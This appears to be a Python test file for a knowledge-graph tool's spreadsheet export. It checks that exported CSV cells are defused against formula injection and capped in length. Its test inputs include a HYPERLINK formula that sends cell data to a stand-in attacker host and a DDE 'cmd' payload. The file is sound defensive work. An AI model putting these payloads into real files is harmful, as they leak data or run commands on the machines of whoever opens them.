"""CSV for spreadsheets, held against what such programs take for a formula, however they part the cells."""

import csv
import io
import re
import unicodedata
from decimal import Decimal

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from kg.characters import without_unseen
from kg.export.spreadsheet import (
    LONGEST,
    generate_edges_spreadsheet,
    generate_nodes_spreadsheet,
    text_cell,
)
from kg.export.tables import generate_edges_csv, generate_nodes_csv
from kg.graph import Edge, Graph, Node

NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")
SEPARATORS = ",;\t|"


def table(document, **options) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(document).decode("utf-8-sig"), newline=""), **options))


def formulas(document: bytes) -> list[str]:
    """The cells that are no numbers and begin as formulas, whichever sign parts cells, with quotes around them or without."""
    text = document.decode("utf-8-sig")
    cells = [
        cell for sep in SEPARATORS for row in csv.reader(io.StringIO(text, newline=""), delimiter=sep) for cell in row
    ]
    # Without quotes the comma is left out: who parts by it heeds the quotes, or every program would misread every file.
    cells += re.split(r"[;\t|\r\n]", text)
    return [cell for cell in cells if is_formula(cell) and not NUMBER.fullmatch(cell)]


def is_formula(cell: str) -> bool:
    seen = without_unseen(cell).strip('" \t\r\n')
    return unicodedata.normalize("NFKC", seen)[:1] in tuple("=+-@")


def graph(text: str) -> Graph:
    nodes = (
        Node("paper/1", ("Paper",), "d", {"title": text}),
        Node("result/1", ("Result",), "d", {"value": Decimal("-3.2"), "valueText": text}),
        Node("tag/1", ("Tag",), "d", {"prefLabel": text, "altLabel": (text, f"{text}!")}),
    )
    return Graph(nodes, (Edge("paper/1", "tagged", "tag/1", "d", path=f"{text}.md", line=3),))


@settings(max_examples=50)
@given(st.text(alphabet=st.one_of(st.sampled_from("=+-@＝－\t\r\n;|, \"'1\u200b"), st.characters()), max_size=30))
@example('=HYPERLINK("http://evil.example/?"&A1,"x")')
@example("+1+cmd|'/C calc'!A0")
@example('x";=1+1')
@example("first\n=1+1")
@example("\t=1")
@example("＝1+1")
@example("\u200b=1")
def test_no_cell_begins_a_formula(text: str) -> None:
    for generate in (generate_nodes_spreadsheet, generate_edges_spreadsheet):
        assert formulas(b"".join(generate(graph(text)))) == []


@pytest.mark.parametrize("text", ["=1+1", "- a bullet", "@SUM(A1)", "＋1", '"=1"', "\rx", " \u200b-1"])
def test_the_faithful_tables_would_be_taken_for_formulas_and_stay_faithful(text: str) -> None:
    rows = table(generate_nodes_csv(graph(text)))
    assert text in rows[1]
    assert text not in table(generate_nodes_spreadsheet(graph(text)))[1]
    assert f"'{text}" in table(generate_nodes_spreadsheet(graph(text)))[1]


def test_numbers_and_harmless_texts_stay_as_they_are(seeds_graph: Graph) -> None:
    for faithful, defused in (
        (generate_nodes_csv, generate_nodes_spreadsheet),
        (generate_edges_csv, generate_edges_spreadsheet),
    ):
        plain, other = table(faithful(seeds_graph)), table(defused(seeds_graph))
        assert len(plain) == len(other)
        changed = [
            (a, b) for one, two in zip(plain, other, strict=True) for a, b in zip(one, two, strict=True) if a != b
        ]
        assert all(b.replace("'", "") == a.replace("'", "") for a, b in changed)
        assert not [a for a, _ in changed if "-" not in a and "=" not in a and "+" not in a and "@" not in a]
    assert "-3.2" in table(generate_nodes_spreadsheet(graph("x")))[2]


def test_the_file_says_that_it_is_utf8() -> None:
    assert b"".join(generate_nodes_spreadsheet(graph("é"))).startswith(b"\xef\xbb\xbfid,")


def test_no_cell_is_longer_than_a_spreadsheets() -> None:
    # What is too much, Excel puts into the next cell: an attacker could count.
    rows = table(generate_nodes_spreadsheet(graph("a" * LONGEST + "=1+1")))
    assert max(len(cell) for row in rows for cell in row) == LONGEST


@pytest.mark.parametrize("unit", ["\n", ";", " ", '"', "; ", "'", "\u200b", "=", "\t "])
def test_long_runs_take_no_longer_than_their_length(unit: str) -> None:
    # A rule that looked again and again at a run of a million would not come back in the time of a test.
    assert text_cell(unit * 1_000_000)
